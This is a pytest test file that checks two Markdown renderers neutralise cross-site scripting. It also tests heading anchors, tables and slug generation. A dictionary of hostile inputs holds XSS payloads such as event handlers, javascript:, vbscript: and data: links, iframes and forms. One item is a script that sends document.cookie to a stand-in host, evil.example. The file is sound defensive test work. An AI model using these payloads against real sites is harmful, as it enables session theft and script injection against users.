from html.parser import HTMLParser

import pytest

from app.core.text import slugify
from app.guide.rendering import plain_text, render_markdown
from app.pages.services import render_markdown as render_page_markdown


class _Tags(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags = []
        self.text = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text.append(data)


def _tags(html):
    parser = _Tags()
    parser.feed(html)
    return parser.tags


def _parsed(html):
    parser = _Tags()
    parser.feed(html)
    parser.close()
    return parser.tags, "".join(parser.text)


def test_script_injection_is_neutralised():
    html = str(
        render_markdown(
            "Hallo <script>alert('x')</script>\n\n<img src=x onerror=alert(1)>\n\n"
            "[klick](javascript:alert(1)) [data](data:text/html;base64,PHNjcmlwdD4=)\n\n"
            '<a href="https://a.example" onclick="alert(1)">a</a>\n\n'
            '[ok](https://ok.example "Titel")'
        ).html
    )
    tags = _tags(html)
    assert {tag for tag, _ in tags} <= {"p", "a"}
    assert not any(name.startswith("on") for _, attrs in tags for name in attrs)
    hrefs = [attrs.get("href", "") for tag, attrs in tags if tag == "a"]
    assert hrefs == ["https://ok.example"]
    assert "&lt;script&gt;" in html  # shown as text, never executed


# Markdown typed by anyone (staff editing a chapter or a public page): (hostile text, text a reader still sees).
HOSTILE = {
    "script-inline": ("Hallo <script>alert('x')</script> Welt", "<script>alert('x')</script>"),
    "script-block": ("<script>\nfetch('https://evil.example/?c=' + document.cookie)\n</script>", "document.cookie"),
    "style": ("<style>body { display: none }</style>", "display: none"),
    "iframe": ('<iframe src="https://evil.example/"></iframe>', "<iframe"),
    "object": ('<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x">', "<object"),
    "form": ('<form action="https://evil.example/"><input name="pw"><button>Los</button></form>', "<form"),
    "event-img": ("<img src=x onerror=alert(1)>", "onerror=alert(1)"),
    "event-link": ('<a href="https://a.example" onclick="alert(1)">a</a>', "onclick"),
    "event-svg": ("<svg onload=alert(1)><circle r=1></svg>", "<svg"),
    "event-in-title": ('[ok](https://ok.example "x\\" onmouseover=\\"alert(1)")', "ok"),
    "js-link": ("[klick](javascript:alert(1))", "klick"),
    "js-link-mixed-case": ("[klick](JaVaScRiPt:alert(1))", "klick"),
    "js-link-entity": ("[klick](&#106;avascript:alert(1))", "klick"),
    "js-link-reference": ("[klick][1]\n\n[1]: javascript:alert(1)", "klick"),
    "js-autolink": ("<javascript:alert(1)>", "alert(1)"),
    "vbscript-link": ("[klick](vbscript:msgbox(1))", "klick"),
    "data-link": ("[klick](data:text/html;base64,PHNjcmlwdD4=)", "klick"),
    "image-other-host": ("Vorher ![Zähler](https://tracker.example/pixel.png) nachher", "nachher"),
    "image-data": ("Vorher ![x](data:image/png;base64,iVBORw0KGgo=) nachher", "nachher"),
    "raw-html-attributes": ('<p style="position:fixed" class="x" id="login">Text</p>', "Text"),
    "html-comment": ("Sichtbar <!-- <script>alert(1)</script> -->", "Sichtbar"),
}
EXECUTABLE = {
    "script",
    "style",
    "iframe",
    "object",
    "embed",
    "form",
    "input",
    "button",
    "svg",
    "img",
    "link",
    "meta",
    "base",
    "frame",
    "video",
    "audio",
    "source",
    "math",
    "template",
}
RENDERERS = {
    "guide": lambda text: str(render_markdown(text).html),
    "pages": lambda text: str(render_page_markdown(text)),
}


@pytest.mark.parametrize("renderer", list(RENDERERS))
@pytest.mark.parametrize("case", list(HOSTILE))
def test_hostile_markdown_renders_harmless(renderer, case):
    """Both renderers (guide chapters, public pages): nothing runs, nothing loads from another host, links keep
    only http(s), mailto (and tel on pages), and what was typed stays readable as text."""
    source, visible = HOSTILE[case]
    html = RENDERERS[renderer](source)
    tags, text = _parsed(html)
    names = {tag for tag, _ in tags}
    assert not names & EXECUTABLE, html
    for _tag, attrs in tags:
        assert not [name for name in attrs if name.startswith("on")], html
        assert not {"src", "style", "srcset", "action", "formaction", "class", "id"} & set(attrs), html
        if "href" in attrs:
            assert attrs["href"].split(":", 1)[0].lower() in ("http", "https", "mailto", "tel"), html
            assert attrs.get("rel") == "noopener noreferrer", html
    if case.startswith("image"):  # markdown-it makes an <img>; the sanitiser takes it out, address and all
        assert "tracker.example" not in html and "data:" not in html, html
    assert visible in text, html


@pytest.mark.parametrize("renderer", list(RENDERERS))
def test_harmless_markdown_keeps_its_links_and_formatting(renderer):
    """The counterpart of the hostile cases: the sanitiser does not strip what the renderers promise to keep."""
    html = RENDERERS[renderer](
        '**fett** *kursiv* [Berliner Beauftragte](https://www.datenschutz-berlin.de "BlnBDI") '
        "[Post](mailto:info@verein.example)\n\n- eins\n- zwei\n\n> Zitat\n\n`code`"
    )
    tags, text = _parsed(html)
    links = [attrs for tag, attrs in tags if tag == "a"]
    assert links == [
        {"href": "https://www.datenschutz-berlin.de", "title": "BlnBDI", "rel": "noopener noreferrer"},
        {"href": "mailto:info@verein.example", "rel": "noopener noreferrer"},
    ]
    assert {"strong", "em", "ul", "li", "blockquote", "code"} <= {tag for tag, _ in tags}
    assert "Berliner Beauftragte" in text and "Zitat" in text


def test_headings_get_anchors_and_a_table_of_contents():
    rendered = render_markdown("# Oben\n\n## Über die Größe\n\ntext\n\n### Fristen & Löschen\n\n## Über die Größe\n")
    html = str(rendered.html)
    assert '<h2 id="ueber-die-groesse">Über die Größe</h2>' in html
    assert '<h3 id="fristen-loeschen">' in html
    assert "<h1" not in html  # the page title is the only h1
    anchors = [anchor for _, anchor, _ in rendered.toc]
    assert "ueber-die-groesse" in anchors and "fristen-loeschen" in anchors
    assert len(set(anchors)) == len(anchors)  # duplicate headings get distinct anchors
    assert (3, "fristen-loeschen", "Fristen & Löschen") in rendered.toc


def test_links_tables_and_autolinks():
    html = str(render_markdown("<https://www.datenschutz-berlin.de>\n\n| a | b |\n|---|---|\n| 1 | 2 |\n").html)
    assert '<a href="https://www.datenschutz-berlin.de" rel="noopener noreferrer">' in html
    assert "<table>" in html and "<td>1</td>" in html


def test_plain_text_and_slugify():
    assert plain_text("## Titel\n\n*fett* & <b>") == "Titel fett & <b>"
    assert slugify("Aufnahme & Austritt – 2024!") == "aufnahme-austritt-2024"
